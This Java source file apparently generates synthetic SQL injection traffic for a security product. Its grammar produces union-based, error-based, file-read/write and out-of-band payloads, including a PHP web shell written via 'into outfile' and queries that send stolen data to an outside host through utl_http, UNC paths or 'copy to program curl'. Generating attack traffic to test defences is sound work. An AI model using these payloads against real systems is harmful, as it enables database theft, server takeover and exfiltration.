package ai.kongguard.traffic.attack;

import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;

/** Having the database say it: in the page, in its error message, in a file, or to another host. */
final class SqlExtraction {

    private static final Grammar GRAMMAR = SqlWords.GRAMMAR.extend(
            """
            cell ::=
              4×null
              3×«1..30»
              2×«secret»
              '«letters 1..4»'
              «str»
              concat(«mark»,«secret»,«mark»)
              («select»)
              unhex(hex(«secret»))
              cast(«secret» as char)
              «1..9»«1..9×«0..9»»
              «@charplus «letters 3..5»»
            cells ::=
              2×null«1..12×,null»
              2×«1..2»,«3..5»«0..8×,«1..30»»
              3×«0..7×«cell»,»«cell»
              4×«0..9×null,»««secret»¦concat(«mark»,«secret»,«mark»)»«0..9×,null»
              *
              «@mix null»«1..6×,«@mix null»»
            from ::=
              4×from «table» «where»
              from «table» «where» «one»
              from dual
              2×«»
            union_word ::=
              5×union select
              5×union all select
              union distinct select
              union/**/select
              union/**/all/**/select
              /*!union*/ /*!select*/
              /*!«50000..50999»union*/ /*!«50000..50999»all*/ /*!«50000..50999»select*/
              union%0aselect
              union«nl»select
              union(select
              UnIoN«sp»SeLeCt
              uni/**/on sel/**/ect
              ununionion seselectlect
              union all select top «1..9»
              +union+all+select+
              %a0union%a0all%a0select
              union«tab»select
              union«vt»all«ff»select
              union--%0aselect
              union#«letters 3..6»%0aselect
              union-- -«letters 3..6»«nl»select
              /*!0union*/ /*!0select*/
              union(/**//**/select
              %55nion %53elect
              union («@mix select»
            union ::=
              «before»«'¦»«0e1¦.1¦1.e¦\\N¦-.1¦1.0¦1e0¦8.0»union select «cells» «from»«end»
              12×«out» «union_word» «cells» «from» «end»
              2×«before» «union_word» «cells» «from»«end»
              2×«out» group by «column» «union_word» «cells» «from»«end»
              «out» limit 0 «union_word» «cells»«end»
              «out» and «1..9»=«10..99» «union_word» «cells» «from»«end»
              «out» union values(«cells»)«end»
              «out»;«union_word» «cells» «from»«end»
              -«1..99»«'¦"¦'))¦» «union_word» «cells»,(«select»)«end»
              («select») union («select»)
              «before»'«or 1¦and 0¦» «union_word» * from (select «n»)«letters 1..1» join (select «n»)«letters 1..1» on 1=1«end»
              «before»«quote» union select «cells» into @«letters 1..2»,@«letters 1..2»«end»
              «before»'&#x27; union select «cells»«end»
            error ::=
              3×«out» «op» extractvalue(«n»,concat(«mark»,(«select»)«?,«mark»»))«end»
              3×«out» «op» updatexml(«n»,concat(«mark»,(«select»)«?,«mark»»),«n»)«end»
              2×«out» «op» (select «n» from(select count(*),concat(«mark»,(select (elt(«x:=1000..9999»=«=x»,1))),«mark»,floor(rand(0)*2))x from information_schema.«plugins¦character_sets¦tables» group by x)a)«end»
              «out» «op» extractvalue(«n»,concat(0x5c,«mark»,(select (elt(«x:=1000..9999»=«=x»,1))),«mark»))«end»
              «out» «op» «n»=cast((«@chrpipe «letters 3..5»»)||(select (case when («x:=1000..9999»=«=x») then 1 else 0 end))::text||(«@chrpipe «letters 3..5»») as numeric)«end»
              «out» «op» «n» in (select («@charplus «letters 3..5»»+(select (case when («x:=1000..9999»=«=x») then char(49) else char(48) end))+«@charplus «letters 3..5»»))«end»
              2×«out» «op» (select «n» from(select count(*),concat((«select»),«mark»,floor(rand(0)*2))«name» from «table» group by «name»)«letters 1..1»)«end»
              «out» or row(«n»,«n»)>(select count(*),concat((«select»),floor(rand(0)*2))x from (select «n» union select «n»)a group by x limit 1)«end»
              «out» group by concat((«select»),floor(rand(0)*2)) having min(0)«end»
              2×«out» «op» «n»=convert(int,(«select»))«end»
              2×«out» «op» cast((«select») as «int¦numeric¦integer¦xml») «is null¦=«n»¦»«end»
              «out» «op» «n»=cast((chr(«65..90»)||(«select»)::text||chr(«65..90»)) as numeric)«end»
              «out» «op» «n»=ctxsys.drithsx.sn(«n»,(«select»))«end»
              «out» «op» «n»=utl_inaddr.get_host_«address¦name»((«select»))«end»
              «out» «op» (select upper(xmltype(chr(60)||chr(58)||(«select»)||chr(62))) from dual) is not null«end»
              «out» «op» ordsys.ord_dicom.getmappingxpath((«select»),«n»,«n») is null«end»
              «out» «op» dbms_utility.sqlid_to_sqlhash((«select»)) is not null«end»
              «out» «op» json_keys((select convert((«select») using utf8)))«end»
              «out» «op» exp(~(select * from («select»)«letters 1..1»))«end»
              «out» «op» gtid_«subset¦subtract»(concat(«mark»,(«select»)),«n»)«end»
              «out» «op» «polygon¦multipoint¦linestring¦geometrycollection¦multilinestring»((select * from(select * from(«select»)a)b))«end»
              «out» «op» !(select*from(«select»)x)-~0«end»
              «out» «op» (select 2*(if((select * from («select»)s),8446744073709551610,8446744073709551610)))«end»
              «out» «op» name_const((«select»),«n»)«end»
              «out» procedure analyse(extractvalue(rand(),concat(«mark»,(«select»))),1)«end»
              «out» having «1..9»=«1..9»«end»
              «out» «op» «n» in (select (char(«65..122»)+(«select»)))«end»
              «out» «op» «n»/«0¦(select 0)»«end»
              «out» «op» st_latfromgeohash((«select»))«end»
              «out» «op» uuid_to_bin((«select»))«end»
              «out» «op» db_name(convert(int,(«select»)))«end»
              (convert(int,(«select»)))
              «before»'||(«select»)||'
            file ::=
              «out» into «outfile¦dumpfile» '«/var/www/html/¦/tmp/¦c:/inetpub/wwwroot/»«name».«php¦txt¦jsp»'«? lines terminated by 0x«@hex <?php «name»»»«end»
              «out» union select «0..5×null,»'<?php «system¦eval¦passthru»($_«GET¦POST¦REQUEST»["«name»"]); ?>' into outfile '/var/www/«name».php'«end»
              «out» union select «0..5×null,»load_file(«'/«secret_file»'¦0x«@hex /«secret_file»»¦char(«@codes /«secret_file»»)»)«0..5×,null»«end»
              «out» and load_file('/«secret_file»') is not null«end»
              «out» limit 0,1 into outfile '/tmp/«name».txt' fields terminated by 0x«hex 2..6»«end»
              «out» procedure analyse(«?0,0»)«end»
              «out»; copy «table» «to¦from» «'/«secret_file»'¦program '«unix_command»'»«end»
              «out»; bulk insert «table» from 'c:\\«windows_file»'«end»
              «out»; load data local infile '/«secret_file»' into table «table»«end»
              «out» union select «0..3×null,»pg_read_file('/«secret_file»')«0..3×,null»«end»
              «out»; select lo_import('/«secret_file»')«end»
              «out» union select «0..3×null,»«bulkcolumn from openrowset(bulk 'c:\\«windows_file»',single_clob)x¦readfile('/«secret_file»')»«end»
            outside ::=
              «out»; «exec¦declare @q varchar(99);set @q='\\\\«host»\\«name»';exec» master«..¦.dbo.»xp_«dirtree¦fileexist¦subdirs» «'\\\\«host»\\«name»'¦@q»«end»
              «out» «op» load_file(concat('\\\\\\\\',(«select»),'.«host»\\\\«name»')) is null«end»
              «out» union select «0..4×null,»load_file('\\\\\\\\«host»\\\\«name»')«end»
              «out» «op» «n»=utl_http.request('http://«host»/'||(«select»))«end»
              «out»||utl_inaddr.get_host_address((«select»)||'.«host»')||'
              «out» «op» «n»=httpuritype('http://«host»/'||(«select»)).getclob()«end»
              «out» «op» (select extractvalue(xmltype('<?xml version="1.0"?><!DOCTYPE root [<!ENTITY % «name» SYSTEM "http://«host»/">%«name»;]>'),'/l') from dual) is null«end»
              «out»; select * from dblink('host=«host» user='||(«select»)||' dbname=«name»','select 1') as t(i int)«end»
              «out»; copy (select '') to program '«curl¦nslookup¦wget» «host»'«end»
              «out»; exec sp_oacreate 'msxml2.xmlhttp',@o out; exec sp_oamethod @o,'open',null,'get','http://«host»/'«end»
              «out» union select «0..3×null,»dbms_ldap.init('«host»',«port») from dual«end»
              «out»; select * from openrowset('sqloledb','«host»';'sa';'«alnum 4..8»','«select»')«end»
              «out» and (select * from fn_xe_file_target_read_file('c:\\*.xel','\\\\'+(«select»)+'.«host»\\1.xem',null,null)) is null«end»
              «out» and exists(select * from fn_trace_gettable('\\\\'+(«select»)+'.«host»\\1.trc',default))«end»
            """);

    static final List<AttackFamily> FAMILIES = List.of(
            SqlInjection.family(GRAMMAR, "sql_union", "union"),
            SqlInjection.family(GRAMMAR, "sql_error", "error"),
            SqlInjection.family(GRAMMAR, "sql_file", "file"),
            SqlInjection.family(GRAMMAR, "sql_out_of_band", "outside").reservedForSimulation());

    private SqlExtraction() {}
}
